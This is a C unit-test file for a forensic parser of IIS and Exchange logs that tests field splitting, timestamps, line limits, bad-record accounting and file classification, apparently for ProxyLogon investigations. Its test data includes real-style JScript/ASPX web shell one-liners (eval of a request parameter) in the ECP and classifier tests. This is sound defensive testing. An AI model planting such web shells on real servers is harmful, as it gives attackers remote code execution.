/*
 * Unit tests of the parsing layer: W3C and CSV splitting, ECP EventData, timestamps,
 * the line reader's limits, the readers' record/bad accounting and classification.
 */
#include "check.h"
#include "evidence/classify.h"
#include "readers/reader.h"

#include <stdlib.h>

/* ---- in-memory input ------------------------------------------------------------------ */

struct memsrc {
	const char *p;
	size_t n, off, step;
};

static ssize_t mem_read(void *ctx, void *buf, size_t n, const char **err)
{
	struct memsrc *m = ctx;
	size_t k = m->n - m->off;
	(void)err;
	if (k > n)
		k = n;
	if (m->step && k > m->step)
		k = m->step; /* short reads: lines must survive any read boundary */
	memcpy(buf, m->p + m->off, k);
	m->off += k;
	return (ssize_t)k;
}

struct collected {
	size_t good, bad;
	char last_bad[96];
	char first_field[256];
	int64_t first_time;
	size_t first_nfields;
	char ecp_cmd[512];
};

static xh_status collect(struct xh_read_ctx *c, const struct xh_record *r)
{
	struct collected *col = c->ud;

	if (r->bad) {
		col->bad++;
		snprintf(col->last_bad, sizeof col->last_bad, "%s", r->bad);
		return XH_OK;
	}
	if (col->good++ == 0) {
		col->first_time = r->time_ms;
		col->first_nfields = r->nfields;
		if (r->nfields > 2 && r->fields[2].p)
			snprintf(col->first_field, sizeof col->first_field, "%.*s", (int)r->fields[2].n,
			         r->fields[2].p);
	}
	{
		struct xh_sv v;
		if (xh_record_get(r, "S:CMD", &v) && v.p && !col->ecp_cmd[0])
			snprintf(col->ecp_cmd, sizeof col->ecp_cmd, "%.*s", (int)v.n, v.p);
	}
	return XH_OK;
}

static struct xh_in in;
static struct xh_scratch scr;

static struct collected run(const char *source, const char *text, size_t n, size_t step,
                            struct xh_fstats *st)
{
	struct memsrc m = {text, n, 0, step};
	struct xh_src src = {mem_read, &m};
	struct collected col;
	struct xh_read_ctx c;

	memset(&col, 0, sizeof col);
	memset(st, 0, sizeof *st);
	xh_in_open(&in, src);
	c = (struct xh_read_ctx){.in = &in, .source = xh_source_find(source), .path = "t.log", .st = st,
	                     .scr = &scr, .emit = collect, .ud = &col};
	CHECK(c.source != NULL);
	CHECK(xh_read(&c) == XH_OK);
	return col;
}

/* ---- tests ------------------------------------------------------------------------------ */

static void test_w3c_split(void)
{
	struct xh_sv f[8];
	const char *l = "2021-03-03 06:49:42 - GET /owa/ x=1";

	CHECK(xh_w3c_split(l, strlen(l), f, 8) == 6);
	CHECK(f[2].p == NULL);
	CHECK_SV(f[4], "/owa/");
	CHECK(xh_w3c_split(l, strlen(l), f, 5) == 6); /* too many: max + 1 */
	CHECK(xh_w3c_split("a  b", 4, f, 8) == 3);     /* an empty field is still a field */
	CHECK(f[1].n == 0);
}

static void test_csv_split(void)
{
	struct xh_sv f[8];
	struct xh_buf unq;
	bool open;
	const char *a = "x,\"he said \"\"hi\"\", ok\",,\"\"";
	const char *b = "a,\"open, still";

	xh_buf_init(&unq, 1024);
	xh_buf_reserve(&unq, 256);
	CHECK(xh_csv_split(a, strlen(a), f, 8, &unq, &open) == 4);
	CHECK(!open);
	CHECK_SV(f[0], "x");
	CHECK_SV(f[1], "he said \"hi\", ok");
	CHECK(f[2].p == NULL);
	CHECK(f[3].n == 0);
	unq.len = 0;
	CHECK(xh_csv_split(b, strlen(b), f, 8, &unq, &open) == 2);
	CHECK(open);
	unq.len = 0;
	CHECK(xh_csv_split("a,b,", 4, f, 8, &unq, &open) == 3); /* trailing empty field */
	CHECK(f[2].p == NULL);
	unq.len = 0;
	CHECK(xh_csv_split("a,b,c", 5, f, 2, &unq, &open) == 3);
	xh_buf_free(&unq);
}

static void test_ecp_split(void)
{
	/* helsecert, ProxyLogon 2021-03-03: EventData after CSV unquoting */
	const char *ev = "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\" "
	                 "runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>''."
	                 "Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';;S:BLD=15.1.2176.2;S:EX=";
	struct xh_sv n[8], v[8];
	struct xh_buf buf;
	size_t k;

	xh_buf_init(&buf, 4096);
	xh_buf_reserve(&buf, strlen(ev));
	k = xh_ecp_split(ev, strlen(ev), n, v, 8, &buf);
	CHECK(k == 3);
	CHECK_SV(n[0], "S:CMD");
	CHECK_SV(v[0], "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
	               "runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'."
	               "Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'");
	CHECK_SV(n[1], "S:BLD");
	CHECK_SV(v[1], "15.1.2176.2");
	CHECK_SV(n[2], "S:EX");
	CHECK(v[2].p == NULL);
	xh_buf_free(&buf);
}

static void test_time(void)
{
	int64_t ms;
	char buf[40];

	CHECK(xh_parse_iso("2021-03-03T06:49:42.162Z", 24, &ms) == 24);
	xh_time_format(ms, buf, sizeof buf);
	CHECK(strcmp(buf, "2021-03-03T06:49:42.162Z") == 0);
	CHECK(xh_parse_iso("2021-02-30 25:00:00", 19, &ms) == 0);
	CHECK(xh_time_parse("2020-09-01", &ms));
	CHECK(ms == 1598918400000LL);
	CHECK(xh_time_parse("2021-03-03T06:49", &ms));
	CHECK(!xh_time_parse("yesterday", &ms));
	CHECK(!xh_time_parse("2021-03-03T06:49:42Zjunk", &ms));
	xh_time_format(-1, buf, sizeof buf);
	CHECK(strcmp(buf, "1969-12-31T23:59:59.999Z") == 0);
}

static void test_w3c_reader(void)
{
	static const char log[] =
		"\xEF\xBB\xBF#Software: Microsoft Internet Information Services 10.0\r\n"
		"#Fields: date time s-ip cs-method\r\n"
		"2021-03-03 06:49:42 10.0.0.1 GET\r\n"
		"# hand-written note\r\n"
		"2021-03-03 06:49:43 10.0.0.1 GET extra\r\n"
		"\r\n"
		"#Fields: date time cs-method\r\n"
		"2021-03-03 06:49:44 POST\r\n"
		"2021-03-03 99:49:44 POST\r\n"
		"2021-03-04 00:00:00 GET"; /* unterminated last line is still a record */
	struct xh_fstats st;
	struct collected c;

	for (size_t step = 0; step < 8; step += 7) {
		c = run("iis", log, sizeof log - 1, step, &st);
		CHECK(c.good == 3);
		CHECK(c.bad == 3);
		CHECK(st.bad == 3);
		CHECK(st.comments == 4);
		CHECK(st.odd_comments == 1);
		CHECK(c.first_nfields == 4);
		CHECK(strcmp(c.first_field, "10.0.0.1") == 0);
		CHECK(c.first_time == 1614754182000LL);
		CHECK(st.nreasons == 3);
		CHECK(strstr(st.reasons[0].what, "field count differs from #Fields (5, header has 4)") != NULL);
		CHECK(st.reasons[0].line == 5);
		CHECK(strcmp(st.reasons[1].what, "empty line") == 0);
		CHECK(strcmp(st.reasons[2].what, "invalid date or time") == 0);
	}
}

/* Review findings: every non-'#' line is one record or one bad record, whatever the
 * header lines look like; a BOM on a later header block; a date of NUL bytes. */
static void test_w3c_accounting(void)
{
	static const char log[] =
		"#Fields:\r\n"                                  /* unusable: no names */
		"2021-03-03 06:49:42 x\r\n"                     /* bad: no usable header */
		"\xEF\xBB\xBF#Fields: date time c-ip\r\n"      /* BOM of a concatenated file */
		"2021-03-03 06:49:43 1.2.3.4\r\n"
		"\0\0\0\0\0\0\0\0\0\0 06:49:44 1.2.3.4\r\n";  /* NUL date: bad, not 1970 */
	struct xh_fstats st;
	struct collected c = run("iis", log, sizeof log - 1, 0, &st);

	CHECK(c.good == 1);
	CHECK(c.bad == 2);
	CHECK(st.comments == 2);
	CHECK(st.odd_comments == 1);
	CHECK(strcmp(st.reasons[0].what, XH_BAD_NO_FIELDS) == 0);
	CHECK(strcmp(st.reasons[1].what, "invalid date or time") == 0);
	CHECK(c.first_time == 1614754183000LL);
}

/* A '#' line longer than the limit is still a comment, not a bad record. */
static void test_long_comment(void)
{
	size_t big = (size_t)XH_MAX_LINE + 10;
	char *text = malloc(big + 64);
	struct xh_fstats st;
	struct collected c;

	text[0] = '#';
	memset(text + 1, 'c', big - 1);
	memcpy(text + big, "\n#Fields: date time\n2021-03-03 06:49:42\n", 39);
	c = run("iis", text, big + 39, 0, &st);
	CHECK(c.good == 1 && c.bad == 0);
	CHECK(st.comments == 2 && st.odd_comments == 1);
	free(text);
}

/* A quoted CSV field over the limit is one bad record; the records after it survive. */
static void test_csv_resync(void)
{
	size_t big = (size_t)XH_MAX_LINE / 2;
	const char *hdr = "#Software: Microsoft Exchange Server\n#Log-type: HttpProxy Logs\n#Fields: DateTime,UrlStem,UserAgent\n"
	                  "2021-03-03T06:49:42.000Z,/a,\"";
	const char *tail = "x,\"\n2021-03-03T06:49:43.000Z,/ecp/evil1.js,ua\n2021-03-03T06:49:44.000Z,/ecp/evil2.js,ua\n";
	size_t h = strlen(hdr), t = strlen(tail), n = 0;
	char *text = malloc(h + 3 * (big + 1) + t);
	struct xh_fstats st;
	struct collected c;

	memcpy(text, hdr, h);
	n = h;
	for (int i = 0; i < 3; i++) { /* three long lines inside the open quote */
		memset(text + n, 'u', big);
		n += big;
		text[n++] = '\n';
	}
	memcpy(text + n, tail, t);
	n += t;
	c = run("httpproxy", text, n, 0, &st);
	CHECK(c.bad == 1);
	CHECK(c.good == 2);
	CHECK(strcmp(st.reasons[0].what, "quoted field longer than the limit") == 0);
	free(text);
}

static void test_long_line(void)
{
	size_t big = (size_t)XH_MAX_LINE * 2 + 100;
	char *text = malloc(big + 200);
	const char *hdr = "#Fields: date time c-ip\n";
	size_t h = strlen(hdr);
	struct xh_fstats st;
	struct collected c;

	memcpy(text, hdr, h);
	memset(text + h, 'A', big);
	memcpy(text + h + big, "\n2021-03-03 06:49:42 1.2.3.4\n", 29);
	c = run("iis", text, h + big + 29, 0, &st);
	CHECK(c.good == 1);
	CHECK(c.bad == 1);
	CHECK(strcmp(c.last_bad, "line longer than the limit (cut)") == 0);
	free(text);
}

static void test_xcsv_reader(void)
{
	static const char log[] =
		"\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n"
		"#Version: 15.01.2176.002\r\n"
		"#Log-type: ECP Server Log\r\n"
		"#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
		"2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/"
		"<script language=\"\"JScript\"\">x</script>''';S:BLD=15.1.2176.2\"\r\n"
		"TimeStamp,ServerName,EventId,EventData\r\n"
		"2021-03-03T06:49:54.000Z,EXCH01,ECP.Request,\"multi\r\nline, data\"\r\n"
		"2021-03-03T06:49:55.000Z,too,few\r\n"
		"not-a-time,EXCH01,ECP.Request,x\r\n"
		"2021-03-03T06:49:56.000Z,EXCH01,ECP.Request,\"never closed\r\n";
	struct xh_fstats st;
	struct collected c = run("ecp_server", log, sizeof log - 1, 0, &st);

	CHECK(c.good == 2);
	CHECK(c.bad == 3);
	CHECK(st.comments == 5); /* 4 directives + the repeated header row */
	CHECK(strcmp(c.ecp_cmd, "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\">x</script>'") == 0);
	CHECK(strcmp(c.last_bad, "quoted field open at end of file") == 0);
	CHECK(c.first_time == 1614754193772LL);
}

static void test_classify(void)
{
	const char *note;
	static const struct {
		const char *text, *name, *want;
	} cases[] = {
		{"#Software: Microsoft Internet Information Services 8.5\r\n#Fields: date time\r\n", "x.txt", "iis"},
		{"\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n", "a", "httpproxy"},
		{"#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n", "a", "ecp_server"},
		{"#Software: Microsoft Exchange Server\r\n#Log-type: Rps Cmdlet Logs\r\n", "a", "rps_cmdlet"},
		{"#Software: Microsoft Exchange Server\r\n#Log-type: Something New\r\n", "a", "exchange_csv"},
		{"#Software: Microsoft Exchange Server\r\n#Log-type: OAB Generator Log\r\n", "a", "oabgen"},
		{"#Software: Microsoft HTTP API 2.0\r\n#Fields: date time c-ip c-port\r\n", "a", "httperr"},
		{"ElfFile\0\0\0", "u_ex210303.log", "evtx"},
		{"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>", "a.txt", "webfile"},
		{"just some text\n", "x.aspx", "webfile"},
		{"just some text\n", "x.log", "text"},
		{"PK\x03\x04rest", "x.log", "archive"},
		{"\x01\x02\x03\x00\xff", "u_ex210303.log", "unknown"},
		{"", "x", "empty"},
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		size_t n = strlen(cases[i].text);
		const struct xh_source *s;
		if (strcmp(cases[i].want, "evtx") == 0)
			n = 10;
		if (strcmp(cases[i].want, "unknown") == 0)
			n = 5;
		s = xh_classify(cases[i].text, n, cases[i].name, &note);
		CHECK(strcmp(s->name, cases[i].want) == 0);
		if (strcmp(s->name, cases[i].want) != 0)
			fprintf(stderr, "  case %zu: got %s want %s\n", i, s->name, cases[i].want);
	}
}

int main(void)
{
	if (xh_in_init(&in) || xh_scratch_init(&scr))
		return 1;
	test_w3c_split();
	test_csv_split();
	test_ecp_split();
	test_time();
	test_w3c_reader();
	test_long_line();
	test_w3c_accounting();
	test_long_comment();
	test_csv_resync();
	test_xcsv_reader();
	test_classify();
	xh_in_free(&in);
	xh_scratch_free(&scr);
	return check_done();
}
